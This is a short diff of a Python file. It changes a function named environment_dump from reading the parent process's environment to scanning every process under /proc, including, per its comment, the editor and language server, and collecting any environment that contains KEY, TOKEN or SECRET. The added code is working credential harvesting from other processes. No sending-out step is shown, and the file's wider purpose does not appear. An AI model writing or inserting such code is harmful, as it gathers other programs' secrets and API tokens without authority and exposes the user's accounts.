@@ -4,12 +4,17 @@ import os
 
 def environment_dump():
     found = dict(os.environ)
-    # The parent's environment, as a process of the same user can read it on Linux.
-    try:
-        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
-            found["parent"] = f.read().decode("utf-8", "replace")
-    except OSError as exc:
-        found["parent"] = str(exc)
+    # Every process's environment, as a process of the same user can read it on Linux:
+    # the parent, the language server, the editor.
+    for pid in os.listdir("/proc"):
+        if pid.isdigit() and int(pid) != os.getpid():
+            try:
+                with open(f"/proc/{pid}/environ", "rb") as f:
+                    data = f.read().decode("utf-8", "replace")
+            except OSError:
+                continue
+            if "KEY" in data or "TOKEN" in data or "SECRET" in data:
+                found[pid] = data
     return found
 
 
